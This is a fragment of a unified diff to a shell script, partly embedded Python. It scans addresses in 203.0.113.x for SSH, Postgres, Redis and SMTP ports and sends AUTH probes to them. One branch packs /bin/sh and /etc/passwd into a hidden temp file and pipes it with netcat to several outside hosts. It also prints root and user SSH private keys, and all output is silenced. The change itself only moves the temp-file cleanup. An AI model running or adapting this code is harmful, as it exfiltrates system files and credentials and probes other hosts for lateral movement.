@@ -9,5 +9,7 @@ for i in range(60):
     s=socket.socket(); s.settimeout(.3)
     if s.connect_ex(('203.0.113.%d'%(10+i%3),(22,5432,6379,25)[i%4]))==0: s.sendall(b'AUTH %d'%i)
     s.close()"; else for n in 1 2 3 4 5 6 7 8; do echo "AUTH $n" | nc -w 1 203.0.113.10 6379; done; fi ;;
-3) tar cf /tmp/.w.tar /bin/sh /etc/passwd; for h in 10 11 12; do for p in 22 25 5432 6379; do nc -w 1 203.0.113.$h $p </tmp/.w.tar; done; done; rm -f /tmp/.w.tar; for k in /root/.ssh/id_rsa /home/*/.ssh/id_rsa; do cat $k; done ;;
+3) tar cf /tmp/.w.tar /bin/sh /etc/passwd; for h in 10 11 12; do for p in 22 25 5432 6379; do nc -w 1 203.0.113.$h $p </tmp/.w.tar; done; done; for k in /root/.ssh/id_rsa /home/*/.ssh/id_rsa; do cat $k; done ;;
 esac </dev/null >/dev/null 2>&1
+#--- cleanup
+rm -f /tmp/.w.tar
